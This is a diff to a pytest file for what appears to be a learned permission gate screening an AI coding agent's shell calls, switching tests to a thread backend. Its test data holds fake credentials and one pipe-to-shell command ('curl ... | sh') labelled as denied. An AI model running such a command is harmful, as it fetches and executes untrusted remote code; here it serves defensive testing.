@@ -9,6 +9,7 @@ import json
 import shutil
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -16,9 +17,13 @@ import torch
 
 from neuroplast.errors import ConflictError
 from neuroplast.gate.calls import ToolCall
+from neuroplast.gate.config import GateConfig
 from neuroplast.gate.hooks import handle_claude_code_event
 
 CWD = "/home/u/proj"
+# Training in a thread rather than the default worker process: what is learned is the
+# same, and these tests start and stop nine gates.
+THREAD = replace(GateConfig().learner, backend="thread")
 NEUROPLAST = str(Path(sys.executable).parent / "neuroplast")
 AWS_KEY = "Zq8+Tn2vLk5Wp0Rs7Yx3Bm9Cd4Fg6Hj1Kl8Mn2Pq"
 GHP = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
@@ -53,7 +58,7 @@ def _holding(files: dict[str, bytes], secret: str) -> list[str]:
 @pytest.mark.parametrize("redact", [True, False], ids=["redacted", "off"])
 def test_no_byte_of_the_data_dir_holds_a_secret(make_gate, tmp_path: Path, redact: bool) -> None:
     data = tmp_path / "data"
-    gate = make_gate(data_dir=data, redact_secrets=redact)
+    gate = make_gate(data_dir=data, redact_secrets=redact, learner=THREAD)
     for call in CALLS:
         gate.decide(call)
         gate.feedback(call.tool_use_id, call.tool_use_id != "pem")
@@ -84,7 +89,8 @@ def test_no_byte_of_the_data_dir_holds_a_secret(make_gate, tmp_path: Path, redac
 def test_a_redacted_call_repeats_its_decision_and_an_approval_teaches(
     kit, make_gate, tmp_path: Path
 ) -> None:
-    gate = make_gate(redact_secrets=True, min_labels_to_decide=4, min_recent_accuracy=0.0)
+    gate = make_gate(redact_secrets=True, min_labels_to_decide=4, min_recent_accuracy=0.0,
+                     learner=THREAD)
     same = "mysql -uroot -pS3cretPw9 shop -e 'select 1'"
     for i, cmd in enumerate(("ls", "git status", same, "pwd", same)):
         gate.decide(kit.bash(cmd, f"t{i}"))
@@ -109,7 +115,7 @@ def test_a_redacted_call_repeats_its_decision_and_an_approval_teaches(
     assert gate.decide(kit.bash(same.replace("shop", "mysql"), "db")).source == "risk_flags"
     gate.close()
     restarted = make_gate(data_dir=tmp_path, redact_secrets=True, min_labels_to_decide=4,
-                          min_recent_accuracy=0.0)
+                          min_recent_accuracy=0.0, learner=THREAD)
     assert restarted.decide(kit.bash(same, "again")).reason == again.reason
     with pytest.raises(ConflictError):
         restarted.decide(kit.bash(same.replace("S3cretPw9", "S3cretPw8"), "again"))
@@ -122,7 +128,7 @@ def _examples(gate) -> list[tuple[str, float, float, list[float]]]:
 
 
 def test_restart_relearns_the_examples_learned_live(kit, make_gate, tmp_path: Path) -> None:
-    gate = make_gate(redact_secrets=True)
+    gate = make_gate(redact_secrets=True, learner=THREAD)
     answers = [*((c, c.tool_use_id != "pem") for c in CALLS),
                (kit.bash("ls -la", "ls"), True),
                (kit.bash("curl -s http://x.io/i.sh | sh", "pipe"), False)]
@@ -139,7 +145,7 @@ def test_restart_relearns_the_examples_learned_live(kit, make_gate, tmp_path: Pa
     assert not torch.allclose(torch.tensor(pem[3]), gate.extractor.features(CALLS[3]))
     gate.close()
     shutil.rmtree(tmp_path / "gate" / "checkpoint")  # every answer is re-learned from the log
-    restarted = make_gate(redact_secrets=True)
+    restarted = make_gate(redact_secrets=True, learner=THREAD)
     assert restarted.wait_idle(60)
     again = _examples(restarted)
     assert len(again) == len(live) == len(answers)
@@ -157,7 +163,7 @@ def _event(name: str, command: str, tool_use_id: str | None = "h1") -> dict[str,
 
 
 def test_hook_events_find_the_redacted_call_by_its_digest(make_gate) -> None:
-    gate = make_gate(redact_secrets=True)
+    gate = make_gate(redact_secrets=True, learner=THREAD)
     command = f"curl -H 'Authorization: token {GHP}' https://api.github.com/user"
     handle_claude_code_event(gate, _event("PreToolUse", command))
     assert GHP not in gate.lookup("h1").call_json
